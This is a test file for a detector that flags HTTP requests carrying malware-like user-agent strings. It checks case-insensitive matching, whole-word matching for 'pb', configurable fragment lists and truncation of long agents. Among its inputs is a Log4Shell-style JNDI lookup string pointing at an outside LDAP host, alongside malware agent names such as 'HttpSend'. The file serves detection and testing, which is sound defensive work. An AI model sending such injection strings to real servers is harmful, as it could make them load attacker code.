// User agents of malware, and those that only look a little like them.

import assert from "node:assert/strict";
import { suspiciousUserAgent } from "../../detectors/suspicious-user-agent.ts";
import { record, watch } from "./harness.ts";
import { proof, twin } from "./proof.ts";
import { told } from "./told.ts";

const T = 1_700_000_000;

function request(user_agent: string | undefined, uri = "/gate.php") {
  return record("http", {
    ts: T,
    orig_h: "192.168.1.10",
    orig_p: 40_000,
    resp_h: "45.33.32.156",
    resp_p: 80,
    trans_depth: 1,
    host: "evil.example",
    uri,
    user_agent,
  });
}

function isFound(agent: string | undefined, options = {}): boolean {
  return watch([suspiciousUserAgent], [request(agent)], options).length === 1;
}

proof("suspicious_user_agent", "a host that names itself as malware does is told", () => {
  const http = request("HttpSend/1.0");
  const [found, ...more] = watch([suspiciousUserAgent], [http]);
  assert.deepEqual(more, []);
  assert.deepEqual(told(found!), {
    type: "suspicious_user_agent",
    threat: "high",
    confidence: 1,
    attacker: "src ip 192.168.1.10",
    profile: "192.168.1.10",
    window: 1,
    timestamp: T,
    uids: [http.uid],
    proto: "tcp",
    src_port: 40_000,
    dst_port: 80,
    description: 'Suspicious user-agent: "HttpSend/1.0" from 192.168.1.10 to evil.example/gate.php; it contains ' +
      "httpsend, as known malware or attacks do",
  });
});

Deno.test("each of the fragments is found in any letter case", () => {
  for (const agent of ["chm_MSDN", "${JNDI:ldap://45.33.32.156/a}", "Mozilla/4.0 (Tesseract)", "xHTTPSENDx"]) {
    assert.ok(isFound(agent), agent);
  }
});

twin("suspicious_user_agent", "browsers, and requests without a user agent, are not", () => {
  assert.ok(!isFound("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"));
  assert.ok(!isFound(""));
  assert.ok(!isFound(undefined));
});

Deno.test("pb is a name only as a whole word: harmless agents contain its letters", () => {
  for (const agent of ["Pb", "pb/1.0", "Mozilla/4.0 (compatible; PB; Windows)", "x-pb"]) {
    assert.ok(isFound(agent), agent);
  }
  for (const agent of ["GPBrowser/2.0", "upb-client", "Podcast/2 (Pbx)", "libpbc/1", "HPBSM"]) {
    assert.ok(!isFound(agent), agent);
  }
});

Deno.test("the texts come from the settings", () => {
  const settings = { "suspicious-user-agent": { fragments: ["BadBot"], words: ["Zz"] } };
  assert.ok(isFound("my badbot 1", { settings }));
  assert.ok(isFound("zz/1", { settings }));
  assert.ok(!isFound("HttpSend/1.0 pb", { settings }));
});

Deno.test("one finding a request; a hostile agent of great length is cut", () => {
  const [found, ...more] = watch([suspiciousUserAgent], [
    request("jndi httpsend pb " + "x".repeat(100_000), "/".repeat(9000)),
  ]);
  assert.deepEqual(more, []);
  assert.ok(found!.description.length < 700);
});
